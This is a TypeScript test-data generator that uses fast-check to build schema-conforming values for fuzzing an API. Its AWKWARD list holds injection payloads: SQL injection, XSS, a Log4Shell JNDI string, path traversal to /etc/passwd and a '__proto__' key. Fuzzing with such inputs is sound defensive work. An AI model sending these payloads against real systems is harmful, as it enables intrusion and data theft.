import fc from 'fast-check'
import type { Document, Json, Operation, Schema } from './document.ts'
import { hinted } from './hints.ts'
import { Text } from './hole.ts'

type Any = fc.Arbitrary<unknown>

/** What databases, pages and parsers have stumbled over, and any text may be. */
export const AWKWARD = [
  `O'Brien; DROP TABLE users; --`,
  '%_\\',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '${jndi:ldap://example.com/a}',
  '../../../../etc/passwd',
  '\u202Eevil\u202C\u200B',
  'ß İ ı ﬀ',
  'e\u0301',
  '👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  '\t\r\n',
  ' ',
  'null',
  'NaN',
  '__proto__',
  '@admin @outsider @stranger',
  '{"a":1}',
]

/** Any code points, halves of surrogate pairs among them. (fast-check's own units cost a second to begin with.) */
export const unicode = fc
  .array(fc.oneof(fc.nat({ max: 0x2ff }), fc.nat({ max: 0x10_ffff })), { maxLength: 12 })
  .map((points) => String.fromCodePoint(...points))
const plain = fc.string({ maxLength: 20 })
const awkward = fc.constantFrom(...AWKWARD)
const anyJson = fc.jsonValue({ maxDepth: 2 })

/** Values that the document's schemas permit. */
export class Values {
  readonly #schemas: Record<string, Schema>
  readonly #operation: Operation

  constructor({ components }: Document, operation: Operation) {
    this.#schemas = components.schemas
    this.#operation = operation
  }

  resolve(schema: Schema): Schema {
    const name = schema.$ref?.split('/').at(-1)
    return name === undefined ? schema : this.resolve(this.#schemas[name] ?? {})
  }

  of(given: Schema, name = ''): Any {
    const schema = this.resolve(given)
    const hint = hinted(name, schema, this.#operation)
    const types = [schema.type ?? []].flat()
    const plainValues =
      hint ??
      this.#byType(
        schema,
        types.filter((type) => type !== 'null'),
        name,
      )
    return types.includes('null') ? rarely(plainValues, fc.constant(null)) : plainValues
  }

  #byType(schema: Schema, types: string[], name: string): Any {
    if (schema.const !== undefined) return fc.constant(schema.const)
    if (schema.enum) return fc.constantFrom(...schema.enum)
    if (schema.anyOf) return fc.oneof(...schema.anyOf.map((one) => this.of(one, name)))
    return types.length > 0 ? fc.oneof(...types.map((type) => this.#ofType(type, schema))) : anyJson
  }

  #ofType(type: string, schema: Schema): Any {
    switch (type) {
      case 'boolean':
        return fc.boolean()
      case 'integer':
        return integer(schema)
      case 'number':
        return fc.double({ noNaN: true, noDefaultInfinity: true })
      case 'array':
        return fc.array(this.of(schema.items ?? {}), {
          minLength: schema.minItems ?? 0,
          maxLength: Math.min(schema.maxItems ?? 3, 3),
        })
      case 'object':
        return this.object(schema)
      case 'null':
        return fc.constant(null)
      default:
        return text(schema)
    }
  }

  /** An object with all that it must have, and some of what it may. */
  object({ properties = {}, required = [], additionalProperties }: Schema): fc.Arbitrary<Record<string, unknown>> {
    const open =
      typeof additionalProperties === 'object'
        ? fc.dictionary(fc.oneof(plain, awkward), this.of(additionalProperties), { maxKeys: 3, noNullPrototype: true })
        : fc.constant({})
    const fields = Object.entries(properties).map(([name, schema]) => {
      const value = this.of(schema, name)
      return [name, required.includes(name) ? value : fc.option(value, { nil: MISSING, freq: 2 })] as const
    })
    return fc.tuple(open, fc.record(Object.fromEntries(fields))).map(([more, known]) => ({
      ...more,
      ...Object.fromEntries(Object.entries(known).filter(([, value]) => value !== MISSING)),
    }))
  }
}

const MISSING = Symbol('missing')

const rarely = (often: Any, seldom: Any): Any =>
  fc.oneof({ weight: 5, arbitrary: often }, { weight: 1, arbitrary: seldom })

function integer({ minimum, exclusiveMinimum, maximum = Number.MAX_SAFE_INTEGER }: Schema): Any {
  const min = minimum ?? (exclusiveMinimum === undefined ? -1000 : exclusiveMinimum + 1)
  return fc.oneof(
    { weight: 6, arbitrary: fc.integer({ min, max: Math.min(min + 60, maximum) }) },
    { weight: 1, arbitrary: fc.constantFrom(min, maximum, Math.min(2 ** 31, maximum), Math.min(2 ** 31 - 1, maximum)) },
  )
}

function text({ format, pattern, minLength = 0, maxLength = 1000 }: Schema): Any {
  const made = FORMATS[format ?? '']
  if (made) return made
  // Those are for one line of any language: fast-check would take its time to find out which letters there are.
  if (pattern && /\\p\{/i.test(pattern)) return fc.stringMatching(/^[a-zA-Z0-9 .]{1,20}$/)
  if (pattern) return fc.stringMatching(new RegExp(pattern, 'u'))
  // The longest seldom: what is long takes long.
  const lengths = [minLength, ...Array.from({ length: 9 }, () => Math.min(maxLength, 300)), maxLength]
  const fit = (value: string) => new Text(value.padEnd(minLength, 'x').slice(0, maxLength), maxLength)
  return fc.oneof(
    { weight: 4, arbitrary: plain.map(fit) },
    { weight: 2, arbitrary: awkward.map(fit) },
    { weight: 1, arbitrary: unicode.map((value) => fit(value.toWellFormed().replaceAll('\0', ''))) },
    { weight: 1, arbitrary: fc.constantFrom(...lengths).map((length) => fit('y'.repeat(length))) },
  )
}

const FORMATS: Record<string, Any> = {
  email: fc.stringMatching(/^[a-z]{3,8}$/).map((name) => `${name}@example.com`),
  uri: fc.constantFrom('https://example.com/a', 'http://localhost', 'ftp://example.com'),
  'date-time': fc
    .date({ noInvalidDate: true, min: new Date(0), max: new Date('9999-12-31') })
    .map((date) => date.toISOString()),
  date: fc
    .date({ noInvalidDate: true, min: new Date(0), max: new Date('9999-12-31') })
    .map((date) => date.toISOString().slice(0, 10)),
  'time-local': fc.constantFrom('09:30', '23:59:59', '00:00:00.001'),
  decimal: fc.constantFrom('0', '9.99', '12345678.90'),
  uuid: fc.uuid(),
}

export type Value = Json | undefined
